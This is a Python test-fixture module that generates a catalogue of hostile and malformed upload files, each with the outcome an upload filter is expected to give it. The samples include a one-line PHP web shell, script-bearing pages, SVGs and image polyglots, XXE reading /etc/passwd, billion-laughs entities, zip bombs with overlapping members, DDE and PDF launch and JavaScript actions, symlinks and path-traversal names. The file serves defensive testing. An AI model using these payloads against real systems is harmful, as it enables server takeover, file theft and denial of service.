"""One table of bad files, for every door that files can come in by.

Each row says what the file is called, how it is made, and what must become of it behind a strict door and behind a
tolerant one. A door that is built later takes this table as its test (``tests/acceptance/test_bad_files.py``).
Payloads are put together here, so that nothing in the checkout looks like malware to a scanner.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from enum import Enum

import pikepdf
from PIL import PngImagePlugin

from tests.support import documents, images, ole

PHP = b"<?p" + b"hp system($_GET['c']); ?>"
PAGE = b"<!doctype html><scr" + b"ipt>alert(1)</scr" + b"ipt>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><scr" + b"ipt>alert(2)</scr" + b"ipt></svg>"
PROGRAM = b"MZ" + bytes(58) + struct.pack("<I", 128) + bytes(64) + b"PE\0\0" + bytes(200)


class Fate(Enum):
    """What becomes of a file."""

    REFUSED = "refused"
    INERT = "inert"
    """Kept as it came, and handed out only as a download that nothing runs."""


REFUSED, INERT = Fate.REFUSED, Fate.INERT


@dataclass(frozen=True)
class BadFile:
    """A row."""

    name: str
    make: Callable[[], bytes]
    why: str = ""
    """Words that the refusal has, so that it is this control that refused and no other."""
    strict: Fate = REFUSED
    tolerant: Fate = REFUSED


# ── images ───────────────────────────────────────────────────────────────────────────────────────────────────────


def zip_file() -> bytes:
    """A ZIP with something in it."""
    return documents.package({"run.sh": "#!/bin/sh\n"})


def png_with_page() -> bytes:
    """A PNG with a page in a text chunk."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", PAGE.decode())
    return images.encoded(images.flat(20, 20), "PNG", pnginfo=info)


def jpeg_that_is_a_script() -> bytes:
    """A JPEG whose first segment is ``/*`` bytes long, and whose comment ends in a script."""
    data = images.jpeg(comment=b"*/=alert(1);/*")
    segment = data[6:].partition(b"\xff\xdb")[0]
    rest = data[6 + len(segment) :]
    return data[:4] + b"/*" + segment.ljust(0x2F2A - 2, b"\0") + rest


def gif_that_is_a_script() -> bytes:
    """A GIF whose width reads as the start of a comment."""
    data = bytearray(images.encoded(images.flat(0x2A2F, 1, 0, "P"), "GIF"))
    return bytes(data) + b"*/=1;alert(1)"


def gif_announcing(width: int, height: int) -> bytes:
    """A small GIF with a header that lies."""
    data = bytearray(images.gif(2, 2))
    struct.pack_into("<HH", data, 6, width, height)
    return bytes(data)


def jpeg_announcing(width: int, height: int) -> bytes:
    """As above, a JPEG."""
    data = bytearray(images.jpeg(16, 16))
    struct.pack_into(">HH", data, data.index(b"\xff\xc0") + 5, height, width)
    return bytes(data)


def png_announcing(width: int, height: int) -> bytes:
    """As above, a PNG; its checksum is right."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = images.png_chunk(b"IDAT", zlib.compress(b"\0" * 100)) + images.png_chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + images.png_chunk(b"IHDR", header) + data


def webp_announcing_the_most() -> bytes:
    """As above, a WebP of 16383 x 16383 pixels."""
    data = bytearray(images.webp(16, 16))
    struct.pack_into("<HH", data, data.index(b"\x9d\x01\x2a") + 3, 16383, 16383)
    return bytes(data)


def gif_of_frames(width: int, height: int, frames: int) -> bytes:
    """An animated GIF that costs nothing to make."""
    pictures = [images.flat(width, height, number % 256, "P") for number in range(frames)]
    return images.encoded(
        pictures[0],
        "GIF",
        save_all=True,
        append_images=pictures[1:],
        optimize=False,
        duration=[*range(10, frames + 10)],
    )


IMAGES = {
    "a JPEG by its magic alone": BadFile("a.jpg", lambda: b"\xff\xd8\xff\xe0\0\x10JFIF\0" + bytes(200)),
    "a PNG by its magic alone": BadFile("a.png", lambda: b"\x89PNG\r\n\x1a\n" + bytes(200)),
    "a GIF by its magic alone": BadFile("a.gif", lambda: b"GIF89a" + bytes(200)),
    "a WebP by its magic alone": BadFile("a.webp", lambda: b"RIFF\x10\0\0\0WEBPVP8 " + bytes(200)),
    "an empty image": BadFile("a.png", lambda: b""),
    "a truncated JPEG": BadFile("a.jpg", lambda: images.jpeg(200, 200)[:-600]),
    "a truncated PNG": BadFile("a.png", lambda: images.png(200, 200)[:-600]),
    "a truncated GIF": BadFile("a.gif", lambda: images.gif(200, 200)[:-600]),
    "a truncated WebP": BadFile("a.webp", lambda: images.webp(200, 200)[:-600]),
    "a PNG with a flipped bit": BadFile("a.png", lambda: images.png(99, 99).replace(b"IDAT", b"IDAT\xff", 1)),
    "a PNG bomb": BadFile("a.png", lambda: images.png_of_zeros(30_000, 30_000), "30000 x 30000"),
    "a wide PNG": BadFile("a.png", lambda: png_announcing(2_000_000_000, 1)),
    "a GIF of 65535 x 65535": BadFile("a.gif", lambda: gif_announcing(65535, 65535)),
    "a JPEG of 65500 x 65500": BadFile("a.jpg", lambda: jpeg_announcing(65500, 65500), "65500 x 65500"),
    "a WebP of 16383 x 16383": BadFile("a.webp", webp_announcing_the_most, "16383 x 16383"),
    "a GIF of 101 frames": BadFile("a.gif", lambda: gif_of_frames(2, 2, 101), "101 frames"),
    "a GIF of 31 million pixels in frames": BadFile("a.gif", lambda: gif_of_frames(2000, 1560, 10), "10 frames"),
    "a GIF that is a script": BadFile("a.gif", gif_that_is_a_script),
    "a JPEG that is a script": BadFile("a.jpg", jpeg_that_is_a_script, "polyglot"),
    "a JPEG with PHP behind it": BadFile("a.jpg", lambda: images.jpeg() + PHP),
    "a JPEG with PHP in a comment": BadFile("a.jpg", lambda: images.jpeg(comment=PHP), "Script_In_Image"),
    "a JPEG with a ZIP behind it": BadFile("a.jpg", lambda: images.jpeg() + zip_file(), "polyglot"),
    "a PNG with a ZIP behind it": BadFile("a.png", lambda: images.png() + zip_file(), "polyglot"),
    "a GIF with a RAR behind it": BadFile("a.gif", lambda: images.gif() + b"Rar!\x1a\x07\x01" + bytes(50), "polyglot"),
    "a WebP with a PDF behind it": BadFile("a.webp", lambda: images.webp() + documents.pdf(), "polyglot"),
    "a JPEG with a program behind it": BadFile("a.jpg", lambda: images.jpeg() + PROGRAM, "polyglot"),
    "a PNG with a page in a text": BadFile("a.png", png_with_page, "Page_In_Image"),
    "a page with a JPEG behind it": BadFile("a.jpg", lambda: PAGE + images.jpeg()),
    "a page": BadFile("a.png", lambda: PAGE),
    "a drawing": BadFile("a.png", lambda: SVG),
    "PHP": BadFile("a.gif", lambda: PHP),
    "a JPEG called PNG": BadFile("a.png", images.jpeg),
    **{
        f"{format} called {extension}": BadFile(
            f"a.{extension}", lambda format=format: images.encoded(images.flat(16, 16), format)
        )
        for format in ("TIFF", "BMP", "PPM", "ICO", "JPEG2000", "TGA", "PCX", "SGI", "AVIF")
        for extension in ("jpg", "png")
    },
}

# ── documents ────────────────────────────────────────────────────────────────────────────────────────────────────


def action(**entries: object) -> pikepdf.Object:
    """A dictionary of these entries."""
    return pikepdf.Dictionary({f"/{name}": value for name, value in entries.items()})


def script() -> pikepdf.Object:
    """An action that runs JavaScript."""
    return action(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def resaved(data: bytes, **options: object) -> bytes:
    """A PDF as qpdf saves it with these options."""
    buffer = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as document:
        document.save(buffer, **options)  # type: ignore[arg-type]
    return buffer.getvalue()


def hidden(data: bytes) -> bytes:
    """A PDF whose dictionaries lie in compressed object streams."""
    packed = resaved(data, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in packed
    return packed


def escaped() -> bytes:
    """A PDF that writes ``/JavaScript`` in escapes."""
    return written(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61v#61Script /J#53 (app.alert(1)) >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
    )


def written(*objects: bytes) -> bytes:
    """A PDF of these objects, byte for byte; the first is the catalogue."""
    data, places = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, 1):
        places.append(b"%010d 00000 n \n" % len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(places) + 1, b"".join(places))
    trailer = b"trailer\n<< /Root 1 0 R /Size %d >>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, len(data))
    return data + table + trailer


def pdf_with_eicar() -> bytes:
    """A PDF with the test file in a stream that is not packed."""
    return written(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(images.eicar()), images.eicar()),
    )


def with_page_action() -> bytes:
    """A PDF whose page runs a script when it is opened."""
    buffer = io.BytesIO()
    with pikepdf.open(io.BytesIO(documents.pdf())) as document:
        document.pages[0].obj.AA = action(O=script())
        document.save(buffer)
    return buffer.getvalue()


PDFS = {
    "a PDF by its magic alone": BadFile("a.pdf", lambda: b"%PDF-1.7\n" + bytes(50)),
    "a truncated PDF": BadFile("a.pdf", lambda: documents.pdf(pages=3)[:-60]),
    "a PDF without its table": BadFile("a.pdf", lambda: documents.pdf().replace(b"startxref", b"startxxxx")),
    "a PDF with wrong offsets": BadFile("a.pdf", lambda: documents.pdf().replace(b"%PDF-", b"%PDF-    ", 1)),
    "a PDF without a page": BadFile("a.pdf", lambda: documents.pdf(pages=0), "no page"),
    "a page with a PDF behind it": BadFile("a.pdf", lambda: PAGE + documents.pdf()),
    "a PDF with a ZIP behind it": BadFile("a.pdf", lambda: documents.pdf() + zip_file(), "polyglot"),
    "a PDF behind other bytes": BadFile("a.pdf", lambda: b"#junk\n" + documents.pdf(), "leading-data", tolerant=INERT),
    "an encrypted PDF": BadFile(
        "a.pdf",
        lambda: resaved(documents.pdf(), encryption=pikepdf.Encryption(owner="o", user="u")),
        "pdf-encrypted",
        tolerant=INERT,
    ),
    "a PDF that runs a script": BadFile(
        "a.pdf", lambda: documents.pdf(OpenAction=script()), "pdf-javascript", tolerant=INERT
    ),
    "a PDF with a script in an object stream": BadFile(
        "a.pdf", lambda: hidden(documents.pdf(OpenAction=script())), "pdf-javascript", tolerant=INERT
    ),
    "a PDF with a script in escapes": BadFile("a.pdf", escaped, "pdf-javascript", tolerant=INERT),
    "a PDF with a named script": BadFile(
        "a.pdf",
        lambda: hidden(documents.pdf(Names=action(JavaScript=action(Names=pikepdf.Array(["a", script()]))))),
        "pdf-javascript",
        tolerant=INERT,
    ),
    "a PDF with a page's script": BadFile("a.pdf", with_page_action, "pdf-javascript", tolerant=INERT),
    "a PDF that starts a program": BadFile(
        "a.pdf",
        lambda: documents.pdf(OpenAction=action(S=pikepdf.Name.Launch, F="cmd.exe")),
        "pdf-launch",
        tolerant=INERT,
    ),
    "a PDF with files in it": BadFile(
        "a.pdf",
        lambda: documents.pdf(Names=action(EmbeddedFiles=action(Names=pikepdf.Array([])))),
        "pdf-embedded-files",
        tolerant=INERT,
    ),
    "a PDF with an XFA form": BadFile(
        "a.pdf", lambda: hidden(documents.pdf(AcroForm=action(XFA=pikepdf.Array([])))), "pdf-xfa", tolerant=INERT
    ),
    "a PDF with EICAR in it": BadFile("a.pdf", pdf_with_eicar, "Eicar"),
}

RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def relationship(kind: str, target: str) -> str:
    """A relationships part that points elsewhere."""
    link = f'<Relationship TargetMode="External" Target="{target}" Type="{RELATIONSHIP}/{kind}"/>'
    return f"<Relationships>{link}</Relationships>"


def fifield() -> bytes:
    """Members that share one run of packed bytes: each header is right, and each names the same megabyte."""
    data = bytearray(documents.docx())
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = kernel.compress(bytes(900_000)) + kernel.flush()
    end = data.rindex(b"PK\x05\x06")
    count, size, at = struct.unpack_from("<H2L", data, end + 10)
    head = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 33, zlib.crc32(bytes(900_000)), len(packed), 900_000, 1, 0)
    local = head + b"x" + packed
    entries = b""
    for name in b"abcdefghij":
        entry = struct.pack(
            "<4s6H3L5H2L",
            b"PK\1\2",
            20,
            20,
            0,
            8,
            0,
            33,
            zlib.crc32(bytes(900_000)),
            len(packed),
            900_000,
            1,
            0,
            0,
            0,
            0,
            0,
            at,
        )
        entries += entry + bytes([name])
    directory = bytes(data[at : at + size]) + entries
    tail = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count + 10, count + 10, len(directory), at + len(local), 0)
    return bytes(data[:at]) + local + directory + tail


def with_link() -> bytes:
    """A document with a symbolic link among its members."""
    buffer = io.BytesIO(documents.docx())
    with zipfile.ZipFile(buffer, "a") as archive:
        link = zipfile.ZipInfo("word/link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def with_secret() -> bytes:
    """A document with a member that says it is encrypted, in both places."""
    data = bytearray(documents.docx())
    data[data.rindex(b"PK\x01\x02") + 8] |= 1
    data[data.rindex(b"PK\x03\x04") + 6] |= 1
    return bytes(data)


def with_two_truths() -> bytes:
    """A document whose member says another name than the directory."""
    data = documents.docx({"word/media/a.txt": "x"})
    return data.replace(b"word/media/a.txt", b"word/media/a.exe", 1)


def with_lying_size() -> bytes:
    """A document with a member that unpacks to more than it says."""
    data = bytearray(documents.docx({"word/media/a.bin": bytes(100_000)}))
    for at in (data.rindex(b"PK\x03\x04") + 22, data.rindex(b"PK\x01\x02") + 24):
        struct.pack_into("<I", data, at, 10)
    return bytes(data)


LAUGHS = "<!DOCTYPE w [<!ENTITY a 'aaaaaaaa'><!ENTITY b '&a;&a;&a;&a;'>]><w>&b;</w>"
XXE = "<!DOCTYPE w [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><w>&a;</w>"
DDE = "<w:document xmlns:w='w'><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd</w:instrText></w:document>"
FIELDS = "<w:document xmlns:w='w'><w:instrText> PAGE </w:instrText></w:document>"
PACKAGES = {
    "a DOCX by its magic alone": BadFile("a.docx", lambda: b"PK\x03\x04" + bytes(100), "broken"),
    "a truncated DOCX": BadFile("a.docx", lambda: documents.docx()[:-30]),
    "a ZIP called DOCX": BadFile("a.docx", zip_file),
    "a DOCX without a main part": BadFile("a.docx", lambda: documents.docx(main_type="text/xml"), "main part"),
    "a DOCM called DOCX": BadFile(
        "a.docx",
        lambda: documents.docx(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "main part",
    ),
    "a DOCX with a damaged member": BadFile(
        "a.docx",
        lambda: documents.docx({"word/media/a.bin": bytes(range(256))}).replace(bytes(range(99)), bytes(99), 1),
    ),
    "a DOCX with a bomb": BadFile("a.docx", lambda: documents.docx({"word/bomb": bytes(3 << 20)}), "zip-ratio"),
    "a DOCX of 600 MB": BadFile(
        "a.docx",
        lambda: documents.docx({f"word/{number}": bytes(1 << 20) for number in range(600)}),
        "zip-too-large-unpacked",
    ),
    "a DOCX of 20000 members": BadFile(
        "a.docx", lambda: documents.docx({f"{number}": "" for number in range(20_000)}), "zip-too-many-members"
    ),
    "a DOCX whose members overlap": BadFile("a.docx", fifield, "zip-overlapping-members"),
    "a DOCX whose member has two names": BadFile("a.docx", with_two_truths, "zip-inconsistent"),
    "a DOCX whose member lies about its size": BadFile("a.docx", with_lying_size),
    "a DOCX with one name twice": BadFile(
        "a.docx", lambda: documents.docx({"WORD/document.xml": ""}), "zip-duplicate-names"
    ),
    "a DOCX with a climbing name": BadFile("a.docx", lambda: documents.docx({"../../a": ""}), "zip-climbing-name"),
    "a DOCX with an absolute name": BadFile("a.docx", lambda: documents.docx({"/etc/a": ""}), "zip-climbing-name"),
    "a DOCX with a drive's name": BadFile("a.docx", lambda: documents.docx({"C:\\a": ""}), "zip-climbing-name"),
    "a DOCX with a link": BadFile("a.docx", with_link, "zip-symlink"),
    "a DOCX with an encrypted member": BadFile("a.docx", with_secret, "zip-encrypted-member"),
    "a DOCX behind other bytes": BadFile(
        "a.docx", lambda: b"PK\x03\x04" + bytes(26) + documents.docx(), "leading-data"
    ),
    "a DOCX before other bytes": BadFile("a.docx", lambda: documents.docx() + b"more", "trailing-data"),
    "a DOCX with an archive": BadFile(
        "a.docx", lambda: documents.docx({"word/media/a.zip": zip_file()}), "nested-archive", tolerant=INERT
    ),
    "a DOCX in a DOCX in a DOCX": BadFile(
        "a.docx",
        lambda: documents.docx(
            {"word/embeddings/a.docx": documents.docx({"word/embeddings/b.docx": documents.docx()})}
        ),
        "nested-archive",
        tolerant=INERT,
    ),
    "a DOCX that reads a file": BadFile("a.docx", lambda: documents.docx(text=XXE), "DOCTYPE"),
    "a DOCX that laughs": BadFile("a.docx", lambda: documents.docx(text=LAUGHS), "DOCTYPE"),
    "a DOCX with a DTD in a side part": BadFile(
        "a.docx", lambda: documents.docx({"customXml/item1.xml": LAUGHS}), "DOCTYPE"
    ),
    "a DOCX with a DTD in a drawing": BadFile("a.docx", lambda: documents.docx({"word/a.vml": LAUGHS}), "DOCTYPE"),
    "a DOCX that fetches a template": BadFile(
        "a.docx",
        lambda: documents.docx(
            {"word/_rels/settings.xml.rels": relationship("attachedTemplate", "http://198.51.100.1/a.dotm")}
        ),
        "ooxml-external-template",
        tolerant=INERT,
    ),
    "a DOCX that fetches from a share": BadFile(
        "a.docx",
        lambda: documents.docx({"word/_rels/document.xml.rels": relationship("oleObject", "\\\\198.51.100.1\\a")}),
        "ooxml-external-template",
        tolerant=INERT,
    ),
    "a DOCX with macros": BadFile("a.docx", lambda: documents.docx({"word/vbaProject.bin": b"x"}), "ooxml-macros"),
    "a DOCX with ActiveX": BadFile(
        "a.docx", lambda: documents.docx({"word/activeX/activeX1.bin": b"x"}), "ooxml-activex", tolerant=INERT
    ),
    "a DOCX with DDE": BadFile("a.docx", lambda: documents.docx(text=DDE), "ooxml-dde", tolerant=INERT),
    "a DOCX with EICAR in a member": BadFile(
        "a.docx", lambda: documents.docx({"word/media/a.txt": images.eicar()}), "Eicar"
    ),
    "a DOCX with a program in a member": BadFile(
        "a.docx", lambda: documents.docx({"word/media/image1.png": PROGRAM}), "Program"
    ),
    "a DOCX with EICAR in its workbook": BadFile(
        "a.docx",
        lambda: documents.docx({"word/embeddings/a.xlsx": documents.docx({"xl/a.txt": images.eicar()})}),
        "Eicar",
    ),
    "a DOCX with EICAR far inside": BadFile(
        "a.docx",
        lambda: documents.docx({"word/media/a.bin": bytes((1 << 20) - 4096 - 30) + images.eicar() + bytes(100)}),
        "Eicar",
    ),
}


CONTAINERS = {
    "a DOC by its magic alone": BadFile("a.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    "an OLE container without a document": BadFile("a.doc", lambda: ole.container({"Contents": b"x"}), "no stream"),
    "an OLE container with a false document": BadFile(
        "a.doc", lambda: ole.container({"WordDocument": b"x"}), "no Word document"
    ),
    "a truncated DOC": BadFile("a.doc", lambda: ole.word({"1Table": bytes(9000)})[:-5000]),
    "a DOC with macros": BadFile("a.doc", lambda: ole.word({"Macros/VBA": b"x"}), "ole-macros", tolerant=INERT),
    "an encrypted DOC": BadFile("a.doc", lambda: ole.word(flags=0x100), "ole-encrypted", tolerant=INERT),
    "a DOC with a ZIP behind it": BadFile("a.doc", lambda: ole.word() + zip_file(), "polyglot"),
    "a DOC with EICAR in it": BadFile("a.doc", lambda: ole.word({"1Table": images.eicar()}), "Eicar"),
    "a page called DOC": BadFile("a.doc", lambda: PAGE),
}
TEXTS = {
    "a text with NUL": BadFile("a.txt", lambda: b"plain" * 3000 + b"\0"),
    "a text with control characters": BadFile("a.txt", lambda: b"plain" * 3000 + b"\x07"),
    "broken UTF-16": BadFile("a.txt", lambda: "\ufefftext".encode("utf-16-le") + b"\x00\xd8"),
    "a page called text": BadFile("a.txt", lambda: PAGE),
    "PHP called text": BadFile("a.txt", lambda: PHP),
    "a drawing called text": BadFile("a.txt", lambda: SVG),
    "a program called text": BadFile("a.txt", lambda: PROGRAM),
    "EICAR": BadFile("a.txt", images.eicar, "Eicar"),
    "EICAR in the last bytes of a megabyte": BadFile("a.txt", lambda: b"a" * (1 << 20) + images.eicar(), "Eicar"),
}
OTHERS = {
    "a drawing by its own name": BadFile("a.svg", lambda: SVG),
    "a packed drawing": BadFile("a.svgz", lambda: SVG),
    "a page by its own name": BadFile("a.html", lambda: PAGE),
    "PHP by its own name": BadFile("a.php", lambda: PHP),
    "a program by its own name": BadFile("a.exe", lambda: PROGRAM),
    "PHP with a second extension": BadFile("a.jpg.php", lambda: images.jpeg() + PHP),
    "a program under a strange name": BadFile("a.xyz", lambda: PROGRAM),
    "a TIFF by its own name": BadFile("a.tiff", lambda: images.encoded(images.flat(9, 9), "TIFF"), tolerant=INERT),
    "a ZIP with a bomb": BadFile("a.zip", lambda: documents.package({"a": bytes(3 << 20)}), tolerant=INERT),
    "a ZIP with EICAR": BadFile("a.zip", lambda: documents.package({"a": images.eicar()}), "Eicar"),
}
BAD_FILES = {**IMAGES, **PDFS, **PACKAGES, **CONTAINERS, **TEXTS, **OTHERS}

GOOD_FILES = {
    "a JPEG with a second picture behind it": ("a.jpg", lambda: images.jpeg() + images.jpeg(8, 8)),
    "a DOCX with a template of its author": (
        "a.docx",
        lambda: documents.docx(
            {"word/_rels/settings.xml.rels": relationship("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm")}
        ),
    ),
    "a DOCX with a link": (
        "a.docx",
        lambda: documents.docx({"word/_rels/document.xml.rels": relationship("hyperlink", "https://example.org/")}),
    ),
    "a DOCX with a chart's workbook": (
        "a.docx",
        lambda: documents.docx({"word/embeddings/Microsoft_Excel_Sheet1.xlsx": documents.docx()}),
    ),
    "a DOCX with a page number": ("a.docx", lambda: documents.docx(text=FIELDS)),
    "a PDF whose title speaks of scripts": ("a.pdf", lambda: documents.pdf(Lang="use (/JavaScript) and /JS")),
    "a DOC": ("a.doc", ole.word),
}
"""Files that look like rows of the table, and that honest programs write every day: every door takes them."""

_XLINK = "xmlns='http://www.w3.org/2000/svg' xmlns:x='http://www.w3.org/1999/xlink'"
DRAWINGS = [
    f"<svg {_XLINK} width='9' height='9px' {attribute}>{content}</svg>".encode()
    for attribute, content in (
        ("", "<path d='M0 0L9 9' fill='#f00'/>"),
        ("style='fill:red;background:url(http://198.51.100.1)'", "<g transform='rotate(9)'><rect/></g>"),
        ("onload='alert(1)'", "<a x:href='javascript:alert(1)'><text>a &lt; b</text></a>"),
        ("", "<style>@import url(http://198.51.100.1)</style><image href='http://198.51.100.1/a'/>"),
        ("", "<defs><linearGradient id='g'/></defs><rect fill='url(#g)'/><use x:href='#g'/>"),
        ("", "<use x:href='http://198.51.100.1/a#b'/><use href='data:image/svg+xml,x'/>"),
        ("", "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><b onclick='a()'/></body></foreignObject>"),
        ("", "<animate attributeName='href' to='javascript:alert(1)'/><set attributeName='onload' to='a()'/>"),
        ("", "<g xmlns:s='http://www.w3.org/2000/svg'><s:script>alert(1)</s:script></g>"),
        ("", "<rect fill='u\\72l(http://198.51.100.1)' stroke='URL(//198.51.100.1)' filter='url(a.svg#b)'/>"),
        ("", "<?xml-stylesheet href='http://198.51.100.1/a.css'?><!-- a --><![CDATA[<script>]]>"),
    )
]
"""Drawings, some of which hold what may not stay."""
